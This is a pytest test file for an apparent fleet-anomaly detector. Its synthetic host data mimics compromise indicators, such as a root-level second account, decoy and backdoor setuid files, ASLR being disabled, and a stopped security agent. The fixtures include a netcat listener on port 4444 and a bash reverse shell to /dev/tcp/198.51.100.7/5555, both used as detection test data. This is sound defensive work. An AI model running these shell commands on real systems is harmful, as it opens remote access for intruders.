"""Verdicts from evidence (analyze/entries.py + analyze/verdict.py): noise we did not write rules for,
decoys, small fleets, campaigns and benign sub-populations, in both methods."""

from __future__ import annotations

import copy

import pytest
from runbuilder import CRON, ROOT2, build_run, clean_fleet

from diffy_analysis.api import analyze

LISTENER = {
    "protocol": "6",
    "family": "2",
    "address": "0.0.0.0",
    "port": "4444",
    "pid": "9",
    "fd": "3",
    "socket": "1",
    "name": "nc",
    "path": "/usr/bin/nc",
    "cmdline": "nc -l 4444",
    "uid": "0",
}


def _analyze(tmp_path, hosts, base, method):
    """Analyse ``hosts`` by ``method``; in baseline mode against the clean host ``base``."""
    run = build_run(tmp_path / "run", hosts)
    baseline = build_run(tmp_path / "base", {"base-0": base}) if method == "baseline" else None
    return analyze([run], baseline=baseline, method=method)


def _flagged(analysis):
    return sorted(h.host for h in analysis.hosts if h.outlier)


def _attack(host):
    host.setdefault("crontab", []).append(dict(CRON))
    host["users"].append(dict(ROOT2))
    host["listening_ports"].append(dict(LISTENER))


def _noisy(hosts, seed=0, every=3):
    """Per-host noise no rule describes: a made-up table whose every column is per-host random, an
    overlay mount id per host, a JVM JMX port per host in one sub-population (security table) of
    every ``every``-th host, which runs the JVM."""
    for i, (_name, host) in enumerate(sorted(hosts.items())):
        host.setdefault("processes", [])
        host["container_layers"] = [{"layer": f"sha256:{i:04d}{seed}{'ab' * 8}", "size": str(1000 + i)}]
        host.setdefault("mounts", []).append(
            {
                "device": "overlay",
                "path": f"/var/lib/docker/overlay2/{i * 7919 + seed:x}/merged",
                "type": "overlay",
            }
        )
        if i % every == 0:
            # the JVM's process: a listener is always owned by a process the process table shows,
            # which is what makes these hosts a sub-population (entries.py ``_rooted``)
            host.setdefault("processes", []).append(
                {"name": "java", "path": "/usr/bin/java", "cmdline": "java -jar app.jar", "uid": "998"}
            )
            host["listening_ports"].append(
                {
                    "protocol": "6",
                    "family": "2",
                    "address": "127.0.0.1",
                    "port": str(40000 + i * 13),
                    "pid": "5",
                    "fd": "9",
                    "socket": "2",
                    "name": "java",
                    "path": "/usr/bin/java",
                    "cmdline": "java -jar app.jar",
                    "uid": "998",
                }
            )
    return hosts


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_textbook_host_flagged_however_noisy_the_fleet(tmp_path, method):
    hosts = _noisy(clean_fleet(30))
    base = copy.deepcopy(clean_fleet(1)["web-001"])
    base["crontab"] = [dict(CRON, command="root run-parts /etc/cron.hourly")]
    for host in hosts.values():
        host["crontab"] = [dict(CRON, command="root run-parts /etc/cron.hourly")]
    _attack(hosts["web-011"])
    analysis = _analyze(tmp_path, hosts, base, method)
    assert _flagged(analysis) == ["web-011"]
    top = [f.query for f in analysis.hosts[0].findings[:3]]
    assert {"crontab", "users", "listening_ports"} <= set(top)


def test_decoy_rows_on_one_host_never_make_a_column_random(tmp_path):
    hosts = clean_fleet(20)
    for k in range(300):  # 300 decoy listeners on the attacker's host, each a distinct port
        row = dict(LISTENER, port=str(20000 + k))
        hosts["web-005"]["listening_ports"].append(row)
    analysis = analyze([build_run(tmp_path, hosts)])
    assert _flagged(analysis) == ["web-005"]
    strong = [
        f for f in analysis.hosts[0].findings if f.query == "listening_ports" and f.strength == "strong"
    ]
    assert strong, "a host's own decoys must not turn its listeners into 'random' evidence"


@pytest.mark.parametrize("size", [4, 5, 6])
def test_small_fleets_flag_exactly_the_compromised_host(tmp_path, size):
    # On so few hosts a random port on 2 hosts cannot be told from two intruders' listeners (see
    # docs/analysis.md, limits): the JVM runs on every host here.
    hosts = _noisy(clean_fleet(size), every=1)
    _attack(hosts["web-001"])
    analysis = analyze([build_run(tmp_path, hosts)])
    assert _flagged(analysis) == ["web-001"]
    assert analysis.confidence is not None and analysis.confidence.level == "low"
    assert analysis.confidence.cannot_tell
    doc = analysis.to_json()
    assert doc["confidence"]["hosts"] == size


def _binary(path, digest, size="1"):
    return {"path": path, "size": size, "mode": "0755", "uid": "0", "gid": "0", "sha256": digest * 64}


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_a_trojaned_binary_on_one_of_four_hosts_flags_it_beside_an_upgrade(tmp_path, method):
    """Every host has /bin/ls: its entry is never seen absent, so a second value on one of four
    hosts is as sick as a new account (PeerPressure's cardinality counts the values seen). Two
    hosts upgraded openssl (package and binary together) are a population, not novelty. (A trojan
    that kept the size is judged by the hash column alone, as one of the values a one-per-host
    thing takes, and stays below the bar at 4 hosts: docs/analysis.md, limits.)"""
    hosts = clean_fleet(4)
    for host in hosts.values():
        host["system_binaries"] += [_binary("/bin/ls", "a"), _binary("/usr/bin/openssl", "c")]
    base = copy.deepcopy(hosts["web-001"])
    for name in ("web-002", "web-003"):
        hosts[name]["deb_packages"][0]["version"] = "3.0.13-1"
        hosts[name]["system_binaries"][-1] = _binary("/usr/bin/openssl", "b")
    hosts["web-003"]["system_binaries"][-2] = _binary("/bin/ls", "d", size="2")  # trojaned, no package change
    analysis = _analyze(tmp_path, hosts, base, method)
    assert _flagged(analysis) == ["web-003"]
    trojaned = next(h for h in analysis.hosts if h.host == "web-003")
    assert trojaned.findings[0].row["path"] == "/bin/ls"


def test_three_hosts_are_not_enough_and_say_so(tmp_path):
    analysis = analyze([build_run(tmp_path, clean_fleet(3))])
    assert analysis.confidence.level == "insufficient"
    assert "baseline" in analysis.confidence.cannot_tell[0]


@pytest.mark.parametrize("method", ["peers", "baseline"])
@pytest.mark.parametrize("campaign", [2, 5, 10])
def test_campaign_of_a_quarter_of_the_fleet_is_flagged_and_grouped(tmp_path, method, campaign):
    hosts = clean_fleet(40)
    members = [f"web-{i:03d}" for i in range(3, 3 + campaign)]
    for name in members:
        hosts[name].setdefault("crontab", []).append(dict(CRON))
        hosts[name]["users"].append(dict(ROOT2))
    base = copy.deepcopy(clean_fleet(1)["web-001"])
    analysis = _analyze(tmp_path, hosts, base, method)
    assert _flagged(analysis) == sorted(members)
    assert len(analysis.campaigns) == 1
    assert analysis.campaigns[0].hosts == tuple(sorted(members))
    assert analysis.campaigns[0].summary.startswith(f"campaign: {campaign} hosts share")
    assert not analysis.population_differences


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_benign_rollout_with_a_package_change_stays_unflagged(tmp_path, method):
    """A sub-population changes a package *and* a unit, a cron line and a listener together."""
    hosts = clean_fleet(40)
    for i in range(1, 41, 4):  # 10 hosts on the new version
        host = hosts[f"web-{i:03d}"]
        host["deb_packages"].append({"name": "acme-app", "version": "2.4.0-1", "arch": "amd64"})
        host.setdefault("crontab", []).append(dict(CRON, command="acme /opt/acme/bin/flush --batch 500"))
        host["listening_ports"].append(dict(LISTENER, port="9464", name="acme", path="/opt/acme/bin/acme"))
    base = copy.deepcopy(clean_fleet(1)["web-001"])
    analysis = _analyze(tmp_path, hosts, base, method)
    assert _flagged(analysis) == []
    assert analysis.campaigns == ()


def test_json_round_trip_keeps_campaigns_and_confidence(tmp_path):
    from diffy_analysis.findings import Analysis

    hosts = clean_fleet(12)
    for name in ("web-002", "web-007"):
        _attack(hosts[name])
    analysis = analyze([build_run(tmp_path, hosts)])
    again = Analysis.from_json(analysis.to_json())
    assert again.campaigns == analysis.campaigns and again.confidence == analysis.confidence
    assert again.to_json() == analysis.to_json()


SUID = {"path": "/usr/bin/passwd", "username": "root", "groupname": "root", "permissions": "S"}


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_setuid_backdoor_among_300_decoys_on_one_host_flags_it(tmp_path, method):
    # issue 19: one host's 300 decoy setuid files must not make the path column look random
    hosts = clean_fleet(12)
    for host in hosts.values():
        host["suid_bin"] = [dict(SUID)]
    bad = hosts["web-007"]["suid_bin"]
    bad.extend(dict(SUID, path=f"/usr/share/doc/.d{k:03d}") for k in range(300))
    bad.append(dict(SUID, path="/dev/shm/.bash"))
    base = copy.deepcopy(hosts["web-001"])
    analysis = _analyze(tmp_path, hosts, base, method)
    assert _flagged(analysis) == ["web-007"]
    host = analysis.hosts[0]
    assert all(f.strength == "strong" for f in host.findings if f.query == "suid_bin")


def _docker_noise(hosts):
    """Per-host random listeners and mount units whose template ALSO holds a fixed row on every
    host (the JVM's fixed service port; the system's own mount unit): the 4-host cause."""
    for i, (_name, host) in enumerate(sorted(hosts.items())):
        for port in ("8080", str(41000 + i * 17)):
            host["listening_ports"].append(
                dict(LISTENER, port=port, name="java", path="/usr/bin/java", cmdline="java -jar a.jar")
            )
        host["systemd_units"] = [
            {"id": unit, "description": unit, "active_state": "active", "sub_state": "mounted"}
            for unit in ("-.mount", f"var-lib-docker-overlay2-{i * 7919:x}.mount")
        ]
        # the container got one of two addresses: an entry whose value alternates between hosts
        host["iptables"].append(
            dict(host["iptables"][0], chain="DOCKER", dst_ip=f"172.17.0.{2 + i % 2}", target="ACCEPT")
        )


@pytest.mark.parametrize("size", [4, 12])
@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_random_rows_sharing_a_template_with_fixed_rows_never_flag(tmp_path, size, method):
    hosts = clean_fleet(size)
    _docker_noise(hosts)
    _attack(hosts["web-002"])
    base = copy.deepcopy(hosts["web-001"])
    analysis = _analyze(tmp_path, hosts, base, method)
    assert _flagged(analysis) == ["web-002"]


def test_a_state_several_units_pass_through_is_not_a_change(tmp_path):
    hosts = clean_fleet(12)
    timers = ("apt-daily.service", "logrotate.service", "fstrim.service", "man-db.service")
    for host in hosts.values():
        host["systemd_units"] = [
            {"id": unit, "description": unit, "active_state": "inactive", "sub_state": "dead"}
            for unit in timers
        ] + [
            {
                "id": "falcon-sensor.service",
                "description": "f",
                "active_state": "active",
                "sub_state": "running",
            }
        ]
    for k in range(len(timers)):  # each caught starting on one host
        host = hosts[f"web-{k + 1:03d}"]
        host["systemd_units"][k] = dict(
            host["systemd_units"][k], active_state="activating", sub_state="start"
        )
    stopped = hosts["web-010"]["systemd_units"][-1]
    stopped.update(active_state="inactive", sub_state="dead")  # the security agent stopped
    analysis = analyze([build_run(tmp_path, hosts)])
    assert _flagged(analysis) == ["web-010"]


def _account(name, uid):
    return {"username": name, "uid": uid, "gid": uid, "shell": "/bin/sh", "directory": f"/home/{name}"}


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_an_agents_own_account_is_not_a_campaign_but_an_intruders_is(tmp_path, method):
    hosts = clean_fleet(16)
    for host in hosts.values():
        host["processes"] = [
            {"name": "amazon-ssm-agent", "path": "/snap/amazon-ssm-agent/7628/amazon-ssm-agent"}
        ]
    base = copy.deepcopy(hosts["web-001"])
    for name in ("web-002", "web-003", "web-004"):  # the agent created its account on first session
        hosts[name]["users"].append(_account("ssm-user", "1002"))
        hosts[name]["sudoers"] = [
            {
                "source": "/etc/sudoers.d/ssm-agent-users",
                "header": "ssm-user",
                "rule_details": "ALL=(ALL) NOPASSWD:ALL",
            }
        ]
    for name in ("web-010", "web-011"):  # an intruder's account on two hosts
        hosts[name]["users"].append(_account("evil_user", "1003"))
    hosts["web-013"]["users"].append(_account("ssm-admin", "0"))  # uid 0 is never excused
    analysis = _analyze(tmp_path, hosts, base, method)
    assert _flagged(analysis) == ["web-010", "web-011", "web-013"]
    ssm = next(h for h in analysis.hosts if h.host == "web-002")
    assert any("own account" in f.explanation for f in ssm.findings if f.query == "users")


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_a_refreshed_revision_is_a_version_change_not_a_removal(tmp_path, method):
    # a snap refresh renames the unit in its id, description and path at once, on a share of hosts
    def unit(rev):
        return {
            "id": f"snap-amazon-ssm-agent-{rev}.mount",
            "description": f"Mount unit for amazon-ssm-agent, revision {rev}",
            "fragment_path": f"/etc/systemd/system/snap-amazon-ssm-agent-{rev}.mount",
            "active_state": "active",
            "sub_state": "mounted",
        }

    hosts = clean_fleet(20)
    for i, host in enumerate(hosts.values()):
        host["systemd_units"] = [unit(8012 if i % 4 == 1 else 7993)]
    base = copy.deepcopy(hosts["web-001"])
    _attack(hosts["web-009"])
    analysis = _analyze(tmp_path, hosts, base, method)
    assert _flagged(analysis) == ["web-009"]


def _unit(unit_id, active="inactive", sub="dead"):
    return {
        "id": unit_id,
        "description": unit_id,
        "load_state": "loaded",
        "active_state": active,
        "sub_state": sub,
        "fragment_path": f"/lib/systemd/system/{unit_id}",
        "source_path": "",
    }


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_one_unit_caught_starting_is_not_a_change_but_an_agent_stopped_is(tmp_path, method):
    hosts = clean_fleet(6)
    for host in hosts.values():
        host["systemd_units"].append(_unit("logrotate.service"))
    base = copy.deepcopy(hosts["web-001"])
    hosts["web-002"]["systemd_units"][-1] = _unit("logrotate.service", "activating", "start")
    hosts["web-005"]["systemd_units"][0].update(active_state="inactive", sub_state="dead")
    analysis = _analyze(tmp_path, hosts, base, method)
    assert _flagged(analysis) == ["web-005"]
    caught = next(h for h in analysis.hosts if h.host == "web-002")
    assert any("transitional" in f.explanation for f in caught.findings)


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_one_unit_caught_starting_on_several_hosts_is_not_a_campaign(tmp_path, method):
    """A daily timer's unit caught ``activating`` on 3 of 20 hosts: in peers mode those hosts share a
    row the rest lack (an *added* row whose usual value, same key, is ``inactive``): the same unit
    between two states, not a unit they gained. A new unit caught starting stays evidence."""
    hosts = clean_fleet(20)
    for host in hosts.values():
        host["systemd_units"].append(_unit("apt-daily.service"))
    base = copy.deepcopy(hosts["web-001"])
    for name in ("web-004", "web-011", "web-017"):
        hosts[name]["systemd_units"][-1] = _unit("apt-daily.service", "activating", "start")
    new_unit = dict(
        _unit("sys-update.service", "activating", "start"),
        fragment_path="/etc/systemd/system/sys-update.service",
    )
    hosts["web-008"]["systemd_units"].append(new_unit)
    analysis = _analyze(tmp_path, hosts, base, method)
    assert _flagged(analysis) == ["web-008"]
    caught = next(h for h in analysis.hosts if h.host == "web-011")
    assert any("transitional" in f.explanation for f in caught.findings)


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_a_reverse_shell_process_flags_its_host_alone_a_health_check_does_not(tmp_path, method):
    """Processes are activity and a new one alone never decides, except one that is an attacker's by
    what it is: a shell wired to a remote socket (T1059.004). A container health check probing
    loopback through /dev/tcp is a new process too, and stays context."""
    hosts = clean_fleet(20)
    for rows in hosts.values():
        rows["processes"] = [
            {"name": "cron", "path": "/usr/sbin/cron", "cmdline": "/usr/sbin/cron -f", "uid": "0"}
        ]
    base = copy.deepcopy(hosts["web-001"])
    hosts["web-006"]["processes"].append(
        {
            "name": "bash",
            "path": "/usr/bin/bash",
            "cmdline": "bash -c bash -i >& /dev/tcp/198.51.100.7/5555 0>&1",
            "uid": "1001",
        }
    )
    hosts["web-013"]["processes"].append(
        {
            "name": "bash",
            "path": "/usr/bin/bash",
            "cmdline": "timeout 1 bash -c </dev/tcp/127.0.0.1/5432",
            "uid": "999",
        }
    )
    analysis = _analyze(tmp_path, hosts, base, method)
    assert _flagged(analysis) == ["web-006"]
    shell = next(h for h in analysis.hosts if h.host == "web-006")
    assert "/dev/tcp/198.51.100.7/5555" in shell.findings[0].explanation


def _ssm_user(host):
    host["users"].append(
        {
            "uid": "1002",
            "gid": "1002",
            "username": "ssm-user",
            "description": "",
            "directory": "/home/ssm-user",
            "shell": "/bin/sh",
        }
    )
    host.setdefault("sudoers", []).append(
        {
            "source": "/etc/sudoers.d/ssm-agent-users",
            "header": "ssm-user",
            "rule_details": "ALL=(ALL) NOPASSWD:ALL",
        }
    )


def test_hosts_lacking_what_most_hold_are_no_campaign_unless_a_defence_is_missing(tmp_path):
    """An agent's account created on first use on 4 of 6 hosts: the 2 without it share an absence,
    which is what they have not been given yet. Two hosts whose firewall DROP rule is gone share an
    absence too, and that one is a defence removed."""
    hosts = clean_fleet(12)
    for rows in hosts.values():
        rows["processes"] = [
            {
                "name": "amazon-ssm-agent",
                "path": "/usr/bin/amazon-ssm-agent",
                "cmdline": "/usr/bin/amazon-ssm-agent",
                "uid": "0",
            }
        ]
    for name in sorted(hosts)[:8]:
        _ssm_user(hosts[name])
    for rows in hosts.values():
        rows["iptables"].append(dict(rows["iptables"][0], target="ACCEPT", dst_port="22"))
    for name in ("web-010", "web-011"):
        del hosts[name]["iptables"][0]
    analysis = analyze([build_run(tmp_path / "twelve", hosts)])
    assert _flagged(analysis) == ["web-010", "web-011"]
    assert [sorted(c.hosts) for c in analysis.campaigns] == [["web-010", "web-011"]]
    # two instance sizes of 3 hosts, each with one host not yet given the account: each of those
    # lacks, among its own size's peers, an account and a sudo rule the other two hold
    six = clean_fleet(6)
    for i, (name, rows) in enumerate(sorted(six.items())):
        size = "large" if i >= 3 else "small"
        rows["deb_packages"].append(dict(rows["deb_packages"][0], name=f"app-{size}", version="1.0"))
        rows["processes"] = [dict(hosts["web-001"]["processes"][0])]
        rows["processes"].append(
            {"name": "app", "path": "/srv/app/bin/app", "cmdline": f"app --size {size}", "uid": "999"}
        )
        if name not in ("web-003", "web-006"):
            _ssm_user(rows)
    assert _flagged(analyze([build_run(tmp_path / "six", six)])) == []


def test_a_snaps_new_revision_mounted_on_one_host_is_a_version_not_a_new_state(tmp_path):
    """snapd mounts each revision at /snap/<name>/<revision>: one host refreshed first holds a mount
    no other host has, identical but for the numbers in its names to the one every other host
    holds. A new mount point that is no revision (a tmpfs over a directory) stays a new state."""
    hosts = clean_fleet(20)
    for rows in hosts.values():
        rows["mounts"] = [
            {
                "device": "/dev/loop3",
                "path": "/snap/amazon-ssm-agent/7628",
                "type": "squashfs",
                "flags": "ro,nodev,relatime",
            },
            {"device": "/dev/root", "path": "/", "type": "ext4", "flags": "rw,relatime"},
        ]
    hosts["web-004"]["mounts"].append(  # snap keeps the previous revision mounted beside the new one
        {
            "device": "/dev/loop4",
            "path": "/snap/amazon-ssm-agent/7993",
            "type": "squashfs",
            "flags": "ro,nodev,relatime",
        }
    )
    hosts["web-009"]["mounts"].append(
        {"device": "tmpfs", "path": "/var/log/audit", "type": "tmpfs", "flags": "rw,relatime"}
    )
    analysis = analyze([build_run(tmp_path, hosts)])
    assert _flagged(analysis) == ["web-009"]


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_two_hosts_upgraded_are_a_population_two_given_new_tools_are_not(tmp_path, method):
    hosts = clean_fleet(8)
    base = copy.deepcopy(hosts["web-001"])
    for name in ("web-003", "web-006"):  # a newer openssl on two hosts: its binary's hash follows
        hosts[name]["deb_packages"][0]["version"] = "3.0.13-1"
        hosts[name]["system_binaries"].append(
            {
                "path": "/usr/bin/openssl",
                "size": "1",
                "mode": "0755",
                "uid": "0",
                "gid": "0",
                "sha256": "b" * 64,
            }
        )
    for host in hosts.values():
        if "/usr/bin/openssl" not in {r["path"] for r in host["system_binaries"]}:
            host["system_binaries"].append(
                {
                    "path": "/usr/bin/openssl",
                    "size": "1",
                    "mode": "0755",
                    "uid": "0",
                    "gid": "0",
                    "sha256": "c" * 64,
                }
            )
    base["system_binaries"] = copy.deepcopy(hosts["web-001"]["system_binaries"])
    for name in ("web-004", "web-007"):  # attacker tools installed as packages, and the agent stopped
        hosts[name]["deb_packages"].append(
            dict(hosts[name]["deb_packages"][0], name="masscan", version="1.3")
        )
        hosts[name]["systemd_units"][0].update(active_state="inactive", sub_state="dead")
    analysis = _analyze(tmp_path, hosts, base, method)
    assert _flagged(analysis) == ["web-004", "web-007"]


def test_a_firewall_rule_opened_is_not_a_version_change(tmp_path):
    hosts = clean_fleet(12)
    rule = next(r for r in hosts["web-001"]["iptables"] if r.get("dst_port"))
    for host in hosts.values():
        host["iptables"].append(
            dict(rule, target="ACCEPT", src_ip="10.0.0.0", src_mask="255.255.0.0", dst_port="22")
        )
    opened = hosts["web-008"]["iptables"][-1]
    opened.update(src_ip="0.0.0.0", src_mask="0.0.0.0")  # ssh opened to the world
    analysis = analyze([build_run(tmp_path, hosts)])
    assert _flagged(analysis) == ["web-008"]
    top = next(h for h in analysis.hosts if h.host == "web-008").findings
    assert all("version change" not in f.explanation for f in top if f.query == "iptables")


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_one_event_seen_in_several_context_tables_does_not_flag(tmp_path, method):
    """A connection pool started on one host is a process, its binary, a loopback listener and a
    socket file at once: four context tables, one event, no verdict (the multi-table sum flagged
    such hosts on the development lab fleets)."""
    hosts = clean_fleet(12)
    for rows in hosts.values():
        rows["processes"] = [
            {"name": "cron", "path": "/usr/sbin/cron", "cmdline": "/usr/sbin/cron -f", "uid": "0"}
        ]
    pool = hosts["web-005"]
    command = "/usr/bin/python3 /srv/pool/pgbouncer-standin.py /etc/pgbouncer/pgbouncer.ini"
    pool["processes"].append(
        {"name": "python3", "path": "/usr/bin/python3.11", "cmdline": command, "uid": "0"}
    )
    pool["process_binaries"] = [
        {"path": "/usr/bin/python3.11", "sha256": "4add4bb89d8c" * 5 + "abcd", "on_disk": "1"}
    ]
    pool["listening_ports"].append(
        dict(pool["listening_ports"][0], address="127.0.0.1", port="6432", name="python3", cmdline=command)
    )
    pool["staging_files"] = [
        {"path": "/tmp/.s.PGSQL.6432", "type": "socket", "mode": "0755", "size": "0", "uid": "0"}
    ]
    base = copy.deepcopy(hosts["web-001"])
    run = build_run(tmp_path / "run", hosts)
    baseline = build_run(tmp_path / "base", {"base-0": base}) if method == "baseline" else None
    assert _flagged(analyze([run], baseline=baseline, method=method)) == []


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_a_row_is_a_passing_state_only_when_every_change_in_it_is(tmp_path, method):
    # Two hosts turn ASLR off and open ptrace for good (sysctl.d): their config_value "0" looks
    # like a passing state (never the usual config_value, the exception in two entries on two
    # hosts), but current_value 2 -> 0 is a change, so both rows stay evidence and both hosts flag.
    usual = {
        "kernel.randomize_va_space": "2",
        "kernel.yama.ptrace_scope": "1",
        "kernel.kptr_restrict": "1",
        "net.ipv4.ip_forward": "0",
        "kernel.dmesg_restrict": "1",
    }
    hosts = clean_fleet(12)
    for host in hosts.values():
        host["system_controls"] = [
            {"name": name, "current_value": value, "config_value": ""} for name, value in usual.items()
        ]
    base = copy.deepcopy(hosts["web-001"])
    for name in ("web-004", "web-009"):
        for row in hosts[name]["system_controls"]:
            if row["name"] in ("kernel.randomize_va_space", "kernel.yama.ptrace_scope"):
                row.update(current_value="0", config_value="0")
    analysis = _analyze(tmp_path, hosts, base, method)
    assert _flagged(analysis) == ["web-004", "web-009"]
    top = {f.query for h in analysis.hosts if h.outlier for f in h.findings[:2]}
    assert top == {"system_controls"}


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_new_tool_packages_do_not_excuse_a_campaigns_preload_and_sudo_rule(tmp_path, method):
    # A campaign on 8 of 40 hosts installs socat and netcat-traditional (NEW packages: no other
    # host has them in any version) and adds /etc/ld.so.preload and a sudo Defaults rule. Those
    # packages held by the same hosts are no population's make-up for security rows that do not
    # name them (and "etc" in the preload's path does not name netcat); the new app of
    # test_benign_rollout_with_a_package_change_stays_unflagged, whose cron line and listener name
    # it, still is.
    hosts = clean_fleet(40)
    for host in hosts.values():  # both queries ran everywhere; clean hosts hold no row
        host["ld_preload"], host["sudoers"] = [], []
    base = copy.deepcopy(hosts["web-001"])
    campaign = [f"web-{i:03d}" for i in range(3, 40, 5)]
    for name in campaign:
        host = hosts[name]
        host["deb_packages"] += [
            {"name": "socat", "version": "1.7.3.3-2", "arch": "amd64"},
            {"name": "netcat-traditional", "version": "1.10-41.1", "arch": "amd64"},
        ]
        host["ld_preload"] = [
            {"path": "/etc/ld.so.preload", "size": "24", "mtime": "1700000000", "sha256": "0c0ad852" * 8}
        ]
        host["sudoers"] = [{"source": "/etc/sudoers", "header": "Defaults", "rule_details": "!tty_tickets"}]
    analysis = _analyze(tmp_path, hosts, base, method)
    assert _flagged(analysis) == campaign
    assert [sorted(c.hosts) for c in analysis.campaigns] == [campaign]
